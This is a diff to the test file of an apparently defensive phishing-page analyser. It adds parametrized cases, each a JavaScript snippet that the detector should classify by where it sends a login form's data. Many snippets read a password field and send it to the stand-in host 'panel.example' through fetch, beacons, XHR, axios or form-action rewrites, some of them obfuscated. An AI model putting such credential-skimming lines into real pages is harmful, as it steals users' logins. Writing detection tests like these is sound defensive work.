@@ -7,7 +7,9 @@ from scamtriage.parse.html.scripts.receivers import MAX_PIECES
 from tests.cost import least_cpu_s
 from tests.parse.html.readers import STREAM
 
-FORM = '<form id="login" onsubmit="return go(event)"><input name="user"><input type="password" name="xpw1"><button>OK</button></form>'
+FORM = (
+    '<form id="login" onsubmit="return go(event)"><input name="user"><input type="password" name="xpw1" id="qq7"><button>OK</button></form>'
+)
 THERE = "https://panel.example/a/post.php"
 
 
@@ -44,10 +46,43 @@ def hosts(script: str, form: str = FORM, tail: str = "") -> list[str]:
         f"addEventListener('pagehide', function(){{ navigator.sendBeacon('{THERE}', JSON.stringify({{matKhau: m}})) }})",
         "var u = 'https://panel.example/c?k=' + key; new XMLHttpRequest().open('GET', 'https://panel.example/c?p=' + login.xpw1.value)",
         f"function go(e){{ const body = {{}}; body['card_number'] = n.value; return fetch('{THERE}', {{body}}) }}",
+        f"fetch('{THERE}', {{method: 'POST', body: document.getElementById('qq7').value}})",
+        f"fetch('{THERE}', {{method: 'POST', body: `u=${{user}}&p=${{xpw1.value}}`}})",
+        f"fetch(new Request('{THERE}', {{method: 'POST', body: btoa(xpw1.value)}}))",
+        f"window['fetch']('{THERE}', {{method: 'POST', body: login.elements[1].value}})",
+        f"function post(d){{ fetch('{THERE}', {{method: 'POST', body: d}}) }} login.onsubmit = function(){{ post({{p: xpw1.value}}) }}",
+        f"const post = async d => {{ await fetch('{THERE}', {{body: d}}) }}; login.onsubmit = () => post(xpw1.value)",
+        f"var f = new FormData; f.append('p', document.querySelector('[name=xpw1]').value); fetch('{THERE}', {{body: f}})",
+        f"var s = {{url: '{THERE}', data: {{p: xpw1.value}}}}; $.ajax(s)",
+        f"window.open('{THERE}?p=' + xpw1.value)",
+        f"new Vue({{data: {{form: {{user: '', password: ''}}}}, methods: {{go(){{ axios.post('{THERE}', this.form) }}}}}})",
+        f"const [f, setF] = useState({{user: '', password: ''}}); const go = () => fetch('{THERE}', {{body: JSON.stringify(f)}})",
+        f"const state = reactive({{user: '', password: null}}); function go(){{ axios.post('{THERE}', state) }}",
+        f"location.replace('{THERE}?p=' + xpw1.value)",
+        f"let u = '/a'; u = '{THERE}'; function never(){{ u = '/a' }} fetch(u, {{body: xpw1.value}})",
+        "let u = 'https://panel.example'; function never(){ u = '/a' } fetch(`${u}/a`, {body: xpw1.value})",
+        "".join(f"fetch('https://a.test/{n}', {{body: xpw1}});" for n in range(300)) + f"fetch('{THERE}', {{body: xpw1}})",
+        f"var f = document.createElement('form'); f.action = '{THERE}'; var h = make(); h.value = xpw1.value; f.appendChild(h); f.submit()",
     ],
 )
 def test_what_a_script_sends_elsewhere_is_sent_there(script: str, flood: str) -> None:
-    assert hosts(script, tail=flood) == ["", "panel.example"]
+    assert [host for host in hosts(script, tail=flood) if host != "a.test"] == ["", "panel.example"]
+
+
+@pytest.mark.parametrize("decoy", ["<form><input name=q></form>", "<form id=search><input name=q></form>"])
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"fetch('{THERE}', {{method: 'POST', body: new FormData(login)}})",
+        f"$('#login').submit(function(){{ $.post('{THERE}', $(this).serialize()); return false }})",
+        f"document.getElementById('login').addEventListener('submit', function(e){{ fetch('{THERE}', {{body: new FormData(e.target)}}) }})",
+        f"function go(e){{ fetch('{THERE}', {{method: 'POST', body: new FormData(e.target)}}) }}",
+        f"function go(e){{ e.target.action = '{THERE}' }}",
+        f"var f = document.forms[0]; f.action = '{THERE}'",
+    ],
+)
+def test_a_form_beside_that_takes_no_secret_hides_no_receiver(script: str, decoy: str) -> None:
+    assert hosts(script, form=decoy + FORM) == hosts(script, form=FORM + decoy) == ["", "panel.example"]
 
 
 def test_a_handler_in_an_attribute_and_inputs_outside_forms_are_read_too() -> None:
@@ -78,6 +113,20 @@ def test_a_handler_in_an_attribute_and_inputs_outside_forms_are_read_too() -> No
         f"say(\"login.action = '{THERE}'\")",
         f"$.post('{THERE}', {{ page: 3 }})",
         "window.open('GET', 'https://help.example/password')",
+        f"login.onsubmit = function(){{ if (!xpw1.value) return; navigator.sendBeacon('{THERE}', JSON.stringify({{e: 'login'}})) }}",
+        f"xpw1.onfocus = function(){{ fetch('{THERE}', {{method: 'POST', body: JSON.stringify({{event: 'password_focus'}})}}) }}",
+        f"go.onclick = function(){{ navigator.sendBeacon('{THERE}', JSON.stringify({{event: 'login', method: 'password'}})) }}",
+        f"onerror = function(m){{ var x = new XMLHttpRequest(); x.open('POST', '{THERE}'); x.send(of({{scrub: ['password', 'otp']}})) }}",
+        f"function send(ev){{ delete ev.data.password; fetch('{THERE}', {{method: 'POST', body: JSON.stringify(ev)}}) }}",
+        f"$.post('{THERE}', {{page: 3, password: ''}})",
+        f"$.post('{THERE}', {{length: xpw1.value.length, empty: password == ''}})",
+        "fetch('https://panel.example/otp/resend', {method: 'POST', body: JSON.stringify({phone: p, type: 'otp'})})",
+        "const s = new WebSocket('wss://chat.example/live'); s.send('hi'); other.emit('log-in', {password: p})",
+        f"location = '{THERE}?mode=' + (otp ? 'otp' : 'mail'); help.href = '{THERE}?' + forgotPasswordPath",
+        f"var share = {{}}; share.action = '{THERE}'",
+        f"var pay = document.createElement('form'); pay.action = '{THERE}'; pay.submit()",
+        f"var state = {{user: '', password: ''}}; $.post('{THERE}', {{user: state.user}}); state = 3",
+        f"$.post('{THERE}', stat, function(){{ login.password.focus() }})",
     ],
 )
 def test_what_sends_no_secret_elsewhere_receives_none(script: str) -> None:
@@ -87,6 +136,14 @@ def test_what_sends_no_secret_elsewhere_receives_none(script: str) -> None:
 def test_a_letter_that_is_subscribed_to_beside_a_log_in_sends_no_secret() -> None:
     letter = FORM + '<form id="news"><input type="email" name="mail"></form>'
     assert hosts(f"news.onsubmit = function(){{ fetch('{THERE}', {{method: 'POST', body: new FormData(news)}}) }}", form=letter) == [""]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [f"news.action = '{THERE}'", f"$('#news').attr('action', '{THERE}')", f"news.onsubmit = function(){{ this.action = '{THERE}' }}"],
+)
+def test_another_form_that_a_script_sends_elsewhere_takes_no_secret_there(script: str) -> None:
+    assert hosts(script, form=FORM + '<form id="news"><input type="email" name="mail"></form>') == [""]
 
 
 def test_a_page_that_asks_for_no_secret_sends_none() -> None:
@@ -112,6 +169,13 @@ def test_a_long_script_pushes_no_short_one_aside_and_is_told_where_it_was_cut() 
         "function f(){x.open('POST',",
         "fetch('//a.b/',(",
         "a=>fetch(`",
+        "u='//a.b/';fetch(u,password);",
+        "f(password);function f(a){f(a)}",
+        "a={password:'',b:[",
+        "{a:{b:1,password:'',",
+        "fetch(`${a}`,password);a=b;",
+        "a.b(c)[d].e.action='//a.b/';",
+        "s=io(u);s.emit(password);",
     ],
 )
 def test_hostile_scripts_cost_little(piece: str) -> None:
